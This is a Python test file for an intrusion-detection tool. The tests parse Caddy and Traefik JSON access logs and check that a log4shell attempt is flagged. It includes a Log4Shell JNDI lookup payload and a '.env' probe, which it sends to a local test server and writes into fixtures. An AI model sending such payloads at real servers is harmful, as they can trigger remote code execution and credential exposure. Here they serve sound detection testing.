"""JSON access logs: a real Caddy (Debian's) on 127.0.146.3 writes its JSON access log for
requests the test sends from 127.0.146.2 (a log4shell probe, a .env probe, a plain GET), and
Traefik lines written after its documentation's JSON field names (Traefik is not in Debian:
a fixture, not a real Traefik). Both become ``http.request`` events like a combined-format
line, and a real ``mamori watch --read-once --access-log`` finds the exploit in each."""

from __future__ import annotations

import http.client
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from daemons import start_caddy, start_or_skip
from mamori.model.watch import EventType
from mamori.watch.logs.parse import parse_line

HOST, PEER = "127.0.146.3", "127.0.146.2"
ROOT = Path(__file__).resolve().parents[2]
JNDI = "/?q=${jndi:ldap://127.0.146.9:1389/a}"

# After doc.traefik.io/traefik/observability/access-logs/ (format json, the documented
# fields, headers kept with fields.headers.defaultmode=keep as request_<Name>).
TRAEFIK = [
    {"ClientAddr": "192.0.2.44:51234", "ClientHost": "192.0.2.44", "ClientPort": "51234",
     "ClientUsername": "-", "DownstreamContentSize": 19, "DownstreamStatus": 404,
     "Duration": 81234, "OriginContentSize": 19, "OriginDuration": 70012,
     "OriginStatus": 404, "Overhead": 11222, "RequestAddr": "www.example.test",
     "RequestContentSize": 0, "RequestCount": 7, "RequestHost": "www.example.test",
     "RequestMethod": "GET", "RequestPath": JNDI, "RequestPort": "-",
     "RequestProtocol": "HTTP/1.1", "RequestScheme": "http", "RetryAttempts": 0,
     "RouterName": "web@docker", "StartLocal": "2024-05-01T21:00:00.123456789+09:00",
     "StartUTC": "2024-05-01T12:00:00.123456789Z", "entryPointName": "web",
     "request_User-Agent": "Mozilla/5.0 zgrab/0.x", "level": "info", "msg": "",
     "time": "2024-05-01T21:00:00+09:00"},
    {"ClientHost": "192.0.2.45", "ClientPort": "40000", "DownstreamStatus": 200,
     "RequestMethod": "POST", "RequestPath": "/login", "RequestProtocol": "HTTP/2.0",
     "StartUTC": "2024-05-01T12:00:01Z"},
]


def get(port: int, target: str, agent: str) -> int:
    conn = http.client.HTTPConnection(HOST, port, timeout=10, source_address=(PEER, 0))
    try:
        conn.putrequest("GET", target, skip_accept_encoding=True)
        conn.putheader("User-Agent", agent)
        conn.endheaders()
        return conn.getresponse().status
    finally:
        conn.close()


def watch_incidents(tmp_path: Path, log: Path) -> list[dict[str, object]]:
    db = tmp_path / f"{log.stem}.db"
    (tmp_path / "empty.toml").write_text("")
    env = {**os.environ, "MAMORI_SETTINGS": str(tmp_path / "empty.toml")}
    run = subprocess.run([sys.executable, "-m", "mamori", "watch", "--read-once", "--db",
                          str(db), "--access-log", str(log)], capture_output=True, text=True,
                         timeout=60, cwd=ROOT, env=env, check=False)
    assert run.returncode == 0, run.stderr
    shown = subprocess.run([sys.executable, "-m", "mamori", "incidents", "--db", str(db),
                            "-f", "json"], capture_output=True, text=True, timeout=60,
                           cwd=ROOT, env=env, check=True)
    incidents: list[dict[str, object]] = json.loads(shown.stdout)["incidents"]
    return incidents


@pytest.mark.daemon
def test_caddy_json_access_log(tmp_path: Path) -> None:
    with socket.socket() as s:
        s.bind((HOST, 0))
        port = s.getsockname()[1]
    log = tmp_path / "caddy-access.log"
    caddy = start_or_skip(start_caddy, tmp_path / "caddy", HOST, port, log)
    with caddy:
        statuses = [get(port, JNDI, "curl/8.5.0"), get(port, "/.env", "zgrab/0.x"),
                    get(port, "/index.html", "Mozilla/5.0")]
        end = time.monotonic() + 10
        while time.monotonic() < end and (
                not log.exists() or len(log.read_text().splitlines()) < 3):
            time.sleep(0.1)
    assert statuses == [404, 404, 404]
    lines = log.read_text().splitlines()
    assert len(lines) == 3 and json.loads(lines[0])["logger"].startswith("http.log.access")
    events = [parse_line("access", line) for line in lines]
    assert all(e is not None and e.type is EventType.HTTP_REQUEST for e in events)
    got = [(e.src, e.fields["method"], e.fields["url"], e.fields["status"],
            e.fields["user_agent"], e.fields["format"]) for e in events if e is not None]
    assert got == [(PEER, "GET", JNDI, "404", "curl/8.5.0", "caddy"),
                   (PEER, "GET", "/.env", "404", "zgrab/0.x", "caddy"),
                   (PEER, "GET", "/index.html", "404", "Mozilla/5.0", "caddy")]
    first = events[0]
    assert first is not None and first.fields["protocol"] == "HTTP/1.1"
    assert first.fields["path"] == "/" and first.src_port is not None
    assert abs(first.time.timestamp() - time.time()) < 120
    kinds = {(i["src"], i["kind"]) for i in watch_incidents(tmp_path, log)}
    assert (PEER, "exploit.log4shell") in kinds


def test_traefik_json_access_log(tmp_path: Path) -> None:
    log = tmp_path / "traefik.log"
    log.write_text("".join(json.dumps(d) + "\n" for d in TRAEFIK) + "{not json\n[1, 2]\n")
    events = [parse_line("access", line) for line in log.read_text().splitlines()]
    assert events[2:] == [None, None]
    first, second = events[0], events[1]
    assert first is not None and second is not None
    assert (first.src, first.src_port, first.fields["method"], first.fields["url"],
            first.fields["status"], first.fields["bytes"], first.fields["vhost"],
            first.fields["user_agent"], first.fields["format"]) == (
        "192.0.2.44", 51234, "GET", JNDI, "404", "19", "www.example.test",
        "Mozilla/5.0 zgrab/0.x", "traefik")
    assert first.time.isoformat() == "2024-05-01T12:00:00.123456+00:00"
    assert (second.fields["method"], second.fields["protocol"], "user" in second.fields) == (
        "POST", "HTTP/2.0", False)
    kinds = {(i["src"], i["kind"]) for i in watch_incidents(tmp_path, log)}
    assert ("192.0.2.44", "exploit.log4shell") in kinds
